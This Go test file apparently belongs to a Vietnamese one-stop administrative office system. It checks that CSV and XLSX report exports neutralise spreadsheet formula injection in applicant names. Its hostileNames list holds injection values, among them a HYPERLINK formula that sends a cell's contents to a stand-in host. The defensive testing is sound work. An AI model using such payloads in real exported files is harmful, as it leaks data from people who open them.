package reports

import (
	"bytes"
	"context"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"motcua/data"
	"motcua/data/calendar"
	"motcua/data/vntext"
)

// hostileNames are applicant names a spreadsheet would run as formulas at the start of a cell.
var hostileNames = []string{`=HYPERLINK("http://x.invalid/?"&A1,"Bấm")`, "+SUM(1,2)", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"}

// TestCSVTextCellsNeverStartAFormula: text cells (headers, names, table titles) that start
// with = + - @, tab or CR are written behind a single quote, so a spreadsheet shows them as
// text; numbers, even negative, stay numbers.
func TestCSVTextCellsNeverStartAFormula(t *testing.T) {
	r := &Report{Tables: []*Table{{Name: "=Bảng", Cols: []Col{col("Tên", 1), col("Số", 1), col("Tiền", 1)}}, {Name: "Hai", Cols: []Col{col("-Tên", 1)}}}}
	for _, n := range hostileNames {
		r.Tables[0].Rows = append(r.Tables[0].Rows, []Cell{cText(n), cCount(-2), cMoney(-5000)})
	}
	r.Tables[0].Rows = append(r.Tables[0].Rows, []Cell{cText("Nguyễn Văn An - thôn 2"), cCount(3), cMoney(0)})
	recs := rpCSV(t, rpWrite(t, r, FormatCSV))
	if recs[0][0] != "'=Bảng" || recs[1][0] != "Tên" {
		t.Errorf("table title and header: %q", recs[:2])
	}
	for i, n := range hostileNames {
		rec := recs[2+i]
		if rec[0] == "" || rec[0][0] != '\'' {
			t.Errorf("name %q written as %q: a spreadsheet runs it", n, rec[0])
		}
		if rec[1] != "-2" || rec[2] != "-5000" {
			t.Errorf("numbers of %q written as %q, %q", n, rec[1], rec[2])
		}
	}
	if got := recs[2+len(hostileNames)][0]; got != "Nguyễn Văn An - thôn 2" {
		t.Errorf("a plain name became %q", got)
	}
	for _, rec := range recs {
		if len(rec) == 1 && rec[0] == "-Tên" {
			t.Errorf("header %q of the second table is not neutralised", rec[0])
		}
	}
}

// TestHostileApplicantNamesInReportFiles: an applicant named like a formula, rated "không hài
// lòng", is listed in the satisfaction report: its CSV cell is neutralised and its XLSX cell is
// a text cell, not a formula.
func TestHostileApplicantNamesInReportFiles(t *testing.T) {
	ctx := context.Background()
	now := time.Date(2026, 3, 2, 9, 0, 0, 0, vntext.Zone())
	s, u := catalogOffice(t, &now)
	for _, name := range hostileNames[:4] {
		d, err := s.Receive(ctx, u, data.Reception{Procedure: "1.004873", Applicant: data.Person{Name: name}})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range []data.Payload{&data.Transferred{ToUnit: "TP", ToHandler: "tonghop"}, &data.Processed{ResultNo: "KQ1"},
			&data.Returned{ReceiverName: "Người nhận"}, &data.Rated{Rating: data.RatingDissatisfied, Reason: "-Chờ lâu"}} {
			if d, err = s.Record(ctx, u, d.ID, p); err != nil {
				t.Fatal(err)
			}
		}
	}
	st, err := LoadSettings(ctx, s)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Build(ctx, s, KindSatisfaction, st, Options{From: calendar.D(2026, 3, 1), To: calendar.D(2026, 3, 31), By: data.ByUnit, Date: now})
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, rec := range rpCSV(t, rpWrite(t, rep, FormatCSV)) {
		for _, c := range rec {
			for _, n := range hostileNames[:4] {
				switch c {
				case n:
					t.Errorf("CSV holds %q as is", n)
				case "'" + n:
					found++
				}
			}
		}
	}
	if found != 4 {
		t.Errorf("%d of the 4 names found neutralised in the CSV", found)
	}
	f, err := excelize.OpenReader(bytes.NewReader(rpWrite(t, rep, FormatXLSX)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found = 0
	for _, sh := range f.GetSheetList() {
		rows, _ := f.GetRows(sh)
		for i, r := range rows {
			for j, c := range r {
				for _, n := range hostileNames[:4] {
					if c != n {
						continue
					}
					found++
					ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
					if fm, _ := f.GetCellFormula(sh, ref); fm != "" {
						t.Errorf("XLSX %s!%s holds the formula %q", sh, ref, fm)
					}
					if typ, _ := f.GetCellType(sh, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("XLSX %s!%s (%q) is of type %v, not text", sh, ref, n, typ)
					}
				}
			}
		}
	}
	if found != 4 {
		t.Errorf("%d of the 4 names found as text in the XLSX", found)
	}
}
